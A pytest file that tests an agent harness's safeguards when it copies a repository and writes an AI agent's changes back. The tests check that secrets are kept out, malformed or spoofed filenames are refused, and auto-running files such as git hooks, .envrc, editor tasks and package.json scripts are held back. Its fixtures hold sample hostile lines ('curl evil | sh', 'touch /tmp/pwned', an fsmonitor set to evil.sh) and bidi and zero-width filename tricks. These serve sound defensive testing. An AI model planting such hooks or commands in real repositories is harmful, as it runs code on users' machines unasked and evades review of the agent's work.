"""`harness run` on a real repository, without a sandbox: what select_files copies (git's own view of the
folder, secrets kept out) and what apply_changes writes back (checked first, then all or nothing; names,
platform limits, files that run by themselves, modes). The end-to-end runs are in test_workflow_e2e.py."""

import json
import os
import subprocess
from pathlib import Path

import pytest

from agent.sandbox import Changes
from agent.workflow import (
    ApplyResult,
    apply_changes,
    autorun_paths,
    default_protect,
    plan_changes,
    select_files,
)
from agent.workflow.apply import _transaction
from evaluators.selftest.apply_repo import tree
from results.errors import UserError


def git(repo: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, timeout=60)


def make_repo(root: Path) -> Path:
    """A developer's repository: a venv and node_modules (ignored), a .env, an untracked mode-600 notes
    file, a mode-640 tracked file, and husky-style hooks with core.hooksPath configured."""
    r = root / "repo"
    r.mkdir()
    git(r, "init", "-q")
    git(r, "config", "user.email", "dev@example.com")
    git(r, "config", "user.name", "Dev")
    (r / ".gitignore").write_text(".venv/\nnode_modules/\n*.log\n__pycache__/\n")
    (r / ".venv/lib/python3/site-packages/pkg").mkdir(parents=True)
    (r / ".venv/lib/python3/site-packages/pkg/big.bin").write_bytes(os.urandom(300_000))
    (r / "node_modules/left-pad").mkdir(parents=True)
    (r / "node_modules/left-pad/index.js").write_text("module.exports = 1\n")
    (r / ".env").write_text("API_KEY=sk-live-do-not-leak\n")
    (r / "notes.txt").write_text("my private notes\n")
    os.chmod(r / "notes.txt", 0o600)
    (r / "src").mkdir()
    (r / "src/__init__.py").write_text("")
    (r / "src/f.py").write_text("def f(n):\n    return []\n")
    (r / "src/config.py").write_text("DEBUG = False\n")
    os.chmod(r / "src/config.py", 0o640)
    (r / "deploy.sh").write_text("#!/bin/sh\necho deploy\n")
    os.chmod(r / "deploy.sh", 0o700)
    (r / "tests").mkdir()
    (r / "tests/test_f.py").write_text(
        "from src.f import f\n\n\ndef test_f():\n    assert f(3) == [1, 2, 3]\n"
    )
    (r / "run.log").write_text("old log\n")
    (r / ".husky").mkdir()
    (r / ".husky/pre-commit").write_text(
        '#!/bin/sh\necho user-hook >> "$(git rev-parse --git-dir)/hook.log"\n'
    )
    os.chmod(r / ".husky/pre-commit", 0o755)
    git(r, "config", "core.hooksPath", ".husky")
    git(r, "add", ".gitignore", "src", "tests", ".husky", "deploy.sh")
    git(r, "commit", "-qm", "init")
    return r


@pytest.fixture
def repo(tmp_path):
    return make_repo(tmp_path)


# ------------------------------------------------------------------------------------------ what is copied


def test_select_copies_what_git_would_commit_and_keeps_secrets_out(repo):
    sel = select_files(repo)
    assert sorted(sel.files) == [
        ".gitignore",
        ".husky/pre-commit",
        "deploy.sh",  # tracked: mode 700 does not keep it out
        "src/__init__.py",
        "src/config.py",
        "src/f.py",
        "tests/test_f.py",
    ]
    assert sel.secrets == [".env"] and sel.in_git
    assert sel.private == ["notes.txt"]  # untracked and mode 600: the user made it private
    left = {x.path: x for x in sel.left_out}
    assert set(left) == {".venv/", "node_modules/", "run.log"}
    assert left[".venv/"].bytes >= 300_000 and left["node_modules/"].files == 1
    text = "\n".join(sel.summary())
    assert ".venv/" in text and "node_modules/" in text and "kept out as secrets" in text and ".env" in text
    assert "kept out as private" in text and "notes.txt" in text


def test_with_a_umask_of_077_private_modes_say_nothing(repo):
    for p in repo.rglob("*"):
        if p.is_file() and ".git" not in p.parts:
            os.chmod(p, 0o600)
    (repo / "new_module.py").write_text("x = 1\n")
    os.chmod(repo / "new_module.py", 0o600)
    sel = select_files(repo)
    assert "new_module.py" in sel.files and "notes.txt" in sel.files and not sel.private


def test_select_include_exclude_and_more_secrets(repo):
    (repo / "deploy.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
    (repo / "id_ed25519").write_text("key\n")
    (repo / ".aws").mkdir()
    (repo / ".aws/credentials").write_text("[default]\n")
    (repo / "docs").mkdir()
    (repo / "docs/big.md").write_text("x\n")
    (repo / "vault.txt").write_text("pw\n")
    sel = select_files(repo, include=[".env", "run.log"], exclude=["docs"], secret=["vault.*"])
    assert ".env" in sel.files and "run.log" in sel.files and "docs/big.md" not in sel.files
    assert sorted(sel.secrets) == [".aws/credentials", "deploy.pem", "id_ed25519", "vault.txt"]
    assert any(x.path == "docs/big.md" and x.why == "--exclude" for x in sel.left_out)


def test_select_outside_git_still_honours_gitignore(tmp_path):
    folder = tmp_path / "plain"
    (folder / "build").mkdir(parents=True)
    (folder / "build/out.o").write_bytes(b"\0" * 10)
    (folder / "sub").mkdir()
    (folder / "sub/.gitignore").write_text("*.tmp\n")
    (folder / "sub/a.tmp").write_text("x")
    (folder / "sub/a.py").write_text("x")
    (folder / ".gitignore").write_text("build/\n")
    (folder / "main.py").write_text("print(1)\n")
    (folder / ".venv/lib").mkdir(parents=True)  # no .gitignore names it: left out as a dependency folder
    (folder / ".venv/lib/x.py").write_text("x\n")
    (folder / "web/node_modules/pkg").mkdir(parents=True)
    (folder / "web/node_modules/pkg/i.js").write_text("x\n")
    (folder / "web/app.js").write_text("x\n")
    sel = select_files(folder)
    assert sorted(sel.files) == [".gitignore", "main.py", "sub/.gitignore", "sub/a.py", "web/app.js"]
    assert not sel.in_git
    left = {x.path: x.why for x in sel.left_out}
    assert set(left) == {"build/", "sub/a.tmp", ".venv/", "web/node_modules/"}
    assert "dependency" in left[".venv/"] and "dependency" in left["web/node_modules/"]


def test_select_size_limit_is_an_option_with_a_clear_message(repo):
    (repo / "data.bin").write_bytes(b"x" * 300_000)
    with pytest.raises(UserError, match=r"over the limit of .*--max-copy-mb.*data\.bin"):
        select_files(repo, max_bytes=200_000)
    assert "data.bin" in select_files(repo, max_bytes=1 << 20).files


def test_default_protect_names_the_tests_verify_runs():
    files = ["src/f.py", "tests/test_f.py", "tests/test_g.py", "package.json"]
    assert default_protect(["python3 -m pytest -q tests/test_f.py::test_f"], files) == ["tests/test_f.py"]
    assert default_protect(["pytest tests/"], files) == ["tests"]
    everything = default_protect(["pytest -q"], files)
    assert (
        "tests/test_f.py" in everything and "tests/test_g.py" in everything and "src/f.py" not in everything
    )
    assert "package.json" in default_protect(["npm test"], files)


# ------------------------------------------------------------------------------------------ names and limits

BAD_NAMES = [
    "csi\x9b31m.txt",  # C1 control (8-bit CSI)
    "evil\u202etxt.py",  # bidi override
    "zero\u200bwidth.py",  # zero-width space (Cf)
    ".g\u200cit/config",  # an ignorable character that HFS+ drops: ".git"
    "del\x7f.txt",
    "bell\x07.txt",
    "nl\nname.txt",
    "ls\u2028sep.txt",
    "bom\ufeff.txt",
    "lone\udcffsurrogate.txt",
]


@pytest.mark.parametrize("bad", BAD_NAMES)
def test_a_bad_name_refuses_the_whole_patch_and_is_listed(repo, bad):
    before = tree(repo)
    changes = Changes(
        files={"src/f.py": b"def f(n):\n    return [1, 2, 3]\n", bad: b"x"}, deleted=["run.log"]
    )
    res = apply_changes(repo, changes)
    assert [p for p, _ in res.refused] == [bad] and "nothing is applied" in res.refused[0][1]
    assert res.applied == [] and tree(repo) == before  # nothing written, nothing removed


def test_names_and_paths_over_the_platform_limits_are_refused_up_front(repo):
    name_max = os.pathconf(repo, "PC_NAME_MAX")
    path_max = os.pathconf(repo, "PC_PATH_MAX")
    long_name = "n" * (name_max + 1) + ".py"
    deep = "/".join(["d" * 200] * (path_max // 200 + 1)) + "/file.py"
    before = tree(repo)
    changes = Changes(
        files={"src/f.py": b"ok\n", long_name: b"x", deep: b"y", "fine/new.py": b"z"}, deleted=["run.log"]
    )
    res = apply_changes(repo, changes)
    reasons = dict(res.refused)
    assert "longer than the platform's limit" in reasons[long_name]
    assert "longer than the platform's limit" in reasons[deep]
    assert tree(repo) == before  # no partial chain of folders, no file written, nothing deleted
    assert dict(res)[long_name] == reasons[long_name]  # still the (path, why) list callers iterate


def test_an_io_error_half_way_undoes_everything(repo):
    """A failure while writing (here: a folder that became a file after the checks) leaves the tree as it
    was: earlier writes undone, deleted files back, folders made for the patch removed."""
    before = tree(repo)
    (repo / "blocker").write_text("a file\n")
    before = tree(repo)
    writes = {"a/b/c/new.py": b"1", "src/f.py": b"2", "blocker/x.py": b"3"}
    with pytest.raises(OSError):
        _transaction(repo.resolve(), ["a/b/c/new.py", "run.log", "src/f.py", "blocker/x.py"], writes, set())
    assert tree(repo) == before


def test_apply_keeps_modes_and_follows_the_agents_executable_bit(repo):
    (repo / "tool.sh").write_text("#!/bin/sh\n")
    os.chmod(repo / "tool.sh", 0o750)
    changes = Changes(
        files={
            "src/config.py": b"DEBUG = True\n",
            "notes.txt": b"more notes\n",
            "tool.sh": b"#!/bin/sh\necho 2\n",
            "src/f.py": b"#!/usr/bin/env python3\n",
            "src/new.py": b"x = 1\n",
        },
        executable={"tool.sh", "src/f.py"},
    )
    res = apply_changes(repo, changes)
    assert not res.refused and not res.held_back, list(res)
    mode = lambda p: os.stat(repo / p).st_mode & 0o7777  # noqa: E731
    assert mode("src/config.py") == 0o640 and mode("notes.txt") == 0o600 and mode("tool.sh") == 0o750
    assert mode("src/f.py") == 0o755  # made executable by the agent: x where r was
    umask = os.umask(0)
    os.umask(umask)
    assert mode("src/new.py") == 0o666 & ~umask
    assert (repo / "src/config.py").read_text() == "DEBUG = True\n"


def test_a_file_replaced_by_a_folder_applies(repo):
    changes = Changes(files={"src/f.py/inner.py": b"x"}, deleted=["src/f.py"])
    res = apply_changes(repo, changes)
    assert (
        res.applied == ["src/f.py", "src/f.py/inner.py"] and (repo / "src/f.py/inner.py").read_text() == "x"
    )


# ------------------------------------------------------------------------------------------ files that run


HOOKS = {
    ".husky/pre-commit": b"#!/bin/sh\ntouch /tmp/pwned\n",
    ".husky/post-merge": b"#!/bin/sh\ntouch /tmp/pwned\n",
    ".envrc": b"curl evil | sh\n",
    ".vscode/tasks.json": b'{"tasks": [{"runOptions": {"runOn": "folderOpen"}, "command": "sh x"}]}\n',
    ".pre-commit-config.yaml": b"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh x\n",
    "lefthook.yml": b"pre-commit:\n  commands:\n    x:\n      run: sh x\n",
    ".idea/workspace.xml": b"<project/>\n",
    ".devcontainer/devcontainer.json": b'{"initializeCommand": "sh x"}\n',
    ".nvim.lua": b"os.execute('x')\n",
    ".yarnrc.yml": b"yarnPath: ./evil.js\n",
}


def test_files_that_run_by_themselves_are_held_back_unless_allowed(repo):
    before = tree(repo)
    changes = Changes(files={**HOOKS, "src/f.py": b"def f(n):\n    return [1, 2, 3]\n"})
    res = apply_changes(repo, changes)
    held = dict(res.held_back)
    assert set(held) == set(HOOKS) and all("--allow-hooks" in why for why in held.values())
    assert "core.hooksPath" in held[".husky/pre-commit"]
    assert res.applied == ["src/f.py"]
    after = tree(repo)
    assert {p for p in after if after[p] != before.get(p)} == {"src/f.py"}
    allowed = apply_changes(repo, Changes(files={".envrc": b"export A=1\n"}), allow_hooks=True)
    assert allowed.applied == [".envrc"]


def test_hooks_the_repositorys_own_config_names_are_held_back(repo):
    """core.hooksPath set through an included config file, a local pre-commit hook's script, a script the
    installed hook runs, and a program git's config names (core.fsmonitor, a filter driver)."""
    (repo / ".git/extra.cfg").write_text("[core]\n\thooksPath = tools/githooks\n")
    git(repo, "config", "--unset", "core.hooksPath")
    git(repo, "config", "include.path", "extra.cfg")
    git(repo, "config", "core.fsmonitor", "scripts/fsmon.sh")
    git(repo, "config", "filter.x.clean", "python3 scripts/clean.py")
    (repo / "scripts").mkdir()
    (repo / "scripts/lint.sh").write_text("echo lint\n")
    (repo / "tools/githooks").mkdir(parents=True)
    (repo / "tools/githooks/pre-push").write_text("#!/bin/sh\nsh scripts/push-check.sh\n")
    (repo / ".pre-commit-config.yaml").write_text(
        "repos:\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: ./scripts/lint.sh\n"
        "    language: script\n"
    )
    held = autorun_paths(repo, ["scripts/push-check.sh"])
    for path in ("tools/githooks", "scripts/fsmon.sh", "scripts/clean.py", "scripts/lint.sh"):
        assert path in held, (path, held)
    assert "scripts/push-check.sh" in held
    changes = Changes(
        files={
            "tools/githooks/pre-commit": b"x",
            "scripts/lint.sh": b"x",
            "scripts/fsmon.sh": b"x",
            "scripts/push-check.sh": b"x",
            "scripts/other.sh": b"echo fine\n",
        }
    )
    res = apply_changes(repo, changes)
    assert res.applied == ["scripts/other.sh"] and len(res.held_back) == 4


@pytest.mark.parametrize("key", ["include.path", "includeIf.gitdir:/.path"])
def test_a_configuration_file_that_git_includes_from_the_working_tree_is_held_back(repo, key):
    """.git/config's include paths are relative to .git (git-config(1)): an included file of the working
    tree could set core.hooksPath or core.fsmonitor to the agent's program (found by `harness selftest`'s
    apply_hooks case)."""
    (repo / "tools").mkdir()
    (repo / "tools/git.cfg").write_text("[color]\n\tui = auto\n")
    git(repo, "config", key, "../tools/git.cfg")
    res = apply_changes(repo, Changes(files={"tools/git.cfg": b"[core]\n\tfsmonitor = ./evil.sh\n"}))
    assert res.applied == [] and res.held_back[0][0] == "tools/git.cfg"
    assert "included by .git/config" in res.held_back[0][1], res.held_back


def test_protected_vcs_ignored_and_not_copied_paths_are_held_back(repo):
    (repo / "deploy.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
    sel = select_files(repo)
    changes = Changes(
        files={
            "tests/test_f.py": b"def test_f():\n    assert True\n",
            ".github/workflows/ci.yml": b"on: push\n",
            ".git/config": b"[core]\n\tfsmonitor = x\n",
            ".gitattributes": b"* filter=x\n",
            "build.log": b"new log\n",  # ignored by *.log: a build output
            "deploy.pem": b"overwritten\n",  # exists, but was kept out as a secret
            "src/f.py": b"def f(n):\n    return [1, 2, 3]\n",
        },
        rejected=["symlink link-to-etc"],
    )
    res = plan_changes(repo, changes, protect=["tests/test_f.py", ".github/*"], copied=sel.files)
    held = dict(res.held_back)
    assert res.plan == ["src/f.py"] and not res.refused
    assert "protected" in held["tests/test_f.py"] and "protected" in held[".github/workflows/ci.yml"]
    assert "version-control" in held[".git/config"] and "version-control" in held[".gitattributes"]
    assert "ignored" in held["build.log"] and "not copied" in held["deploy.pem"]
    assert "symlink" in held["link-to-etc"]


def test_a_file_changed_in_the_folder_during_the_run_refuses_the_patch(repo):
    sel = select_files(repo)
    (repo / "src/f.py").write_text("def f(n):\n    return ['edited meanwhile']\n")
    res = apply_changes(repo, Changes(files={"src/f.py": b"agent\n", "src/new.py": b"x\n"}), copied=sel.files)
    assert "during the run" in dict(res.refused)["src/f.py"] and not (repo / "src/new.py").exists()


def test_hook_folders_are_matched_case_insensitively(repo):
    res = plan_changes(repo, Changes(files={".HUSKY/pre-commit": b"x", ".EnvRC": b"x", "src/f.py": b"x"}))
    assert res.plan == ["src/f.py"] and {p for p, _ in res.held_back} == {".HUSKY/pre-commit", ".EnvRC"}


def test_git_location_variables_of_the_callers_shell_do_not_redirect_git(repo, tmp_path, monkeypatch):
    """A `harness run` started from inside a git hook (GIT_DIR, GIT_INDEX_FILE set) still reads the folder's
    own repository and configuration."""
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "-q")
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    monkeypatch.setenv("GIT_INDEX_FILE", str(other / ".git" / "index"))
    assert "src/f.py" in select_files(repo).files and ".venv/" in {
        x.path for x in select_files(repo).left_out
    }
    assert ".husky" in autorun_paths(repo)


def test_test_machinery_is_protected_with_the_tests():
    from agent.workflow import test_machinery

    changes = Changes(
        files={
            "conftest.py": b"",
            "pytest.ini": b"[pytest]\n",
            "pyproject.toml": b"[tool.pytest.ini_options]\naddopts = '-k nothing'\n",
            "setup.cfg": b"[metadata]\nname = x\n",
            "lib/hook.pth": b"import os\n",
            "json.py": b"",  # shadows the standard library for `python -m pytest`
            "code/helpers.py": b"",  # an ordinary folder that happens to share a module's name
            "src/f.py": b"",
        }
    )
    assert sorted(test_machinery(changes, ["setup.cfg", "src/f.py"])) == [
        "conftest.py",
        "json.py",
        "lib/hook.pth",
        "pyproject.toml",
        "pytest.ini",
    ]


def test_the_python_api_without_a_selection_still_holds_back_existing_secrets(repo):
    (repo / "deploy.pem").write_text("real key\n")
    res = apply_changes(repo, Changes(files={"deploy.pem": b"agent's\n", "new.pem": b"fresh\n"}))
    assert res.applied == ["new.pem"] and (repo / "deploy.pem").read_text() == "real key\n"


def test_what_a_hook_runs_through_package_json_or_make_is_held_back(repo):
    """The user's hook runs `npm test` and `make lint`: the agent's change to the test script or the Makefile
    would run at the next commit, and says so. A new dependency is held back too since the allowlist rule
    (package.json is configuration: npm runs its packages' install scripts); --allow-hooks writes it."""
    (repo / ".husky/pre-commit").write_text("#!/bin/sh\nnpm test\nmake lint\n")
    (repo / "Makefile").write_text("lint:\n\techo lint\n")
    pkg = {"name": "x", "scripts": {"test": "jest"}, "dependencies": {}}
    (repo / "package.json").write_text(json.dumps(pkg))

    def plan(new: dict) -> ApplyResult:
        return plan_changes(repo, Changes(files={"package.json": json.dumps(new).encode()}))

    dep = plan({**pkg, "dependencies": {"left-pad": "1.3.0"}})
    assert dep.plan == [] and "configuration" in dict(dep.held_back)["package.json"]
    allowed = plan_changes(repo, Changes(files={"package.json": b"{}"}), allow_hooks=True)
    assert allowed.plan == ["package.json"]
    scripts = dict(plan({**pkg, "scripts": {"test": "touch /tmp/pwned"}}).held_back)
    assert "scripts" in scripts["package.json"] and "pre-commit runs" in scripts["package.json"]
    hooks = dict(plan({**pkg, "husky": {"hooks": {"pre-commit": "touch /tmp/pwned"}}}).held_back)
    assert '"husky"' in hooks["package.json"]
    res = plan_changes(repo, Changes(files={"Makefile": b"lint:\n\ttouch /tmp/pwned\n"}))
    assert "pre-commit runs it" in dict(res.held_back)["Makefile"]


def test_run_workflow_takes_its_pool_from_the_backend_named(tmp_path):
    """`harness run` makes its sandboxes with the pool of a backend in agent/sandbox/registry.py (Docker by
    default); any other name is one clear error before a sandbox exists."""
    import asyncio

    from agent.workflow import run_workflow

    (tmp_path / "a.txt").write_text("x\n")
    script = tmp_path / "s.json"
    script.write_text(json.dumps({"*": ["```bash\nsubmit\n```"]}))
    with pytest.raises(UserError, match="sandbox backend 'nope': choose one of docker, k8s"):
        asyncio.run(run_workflow(f"replay:{script}", tmp_path, "x", image="unused", sandbox="nope"))
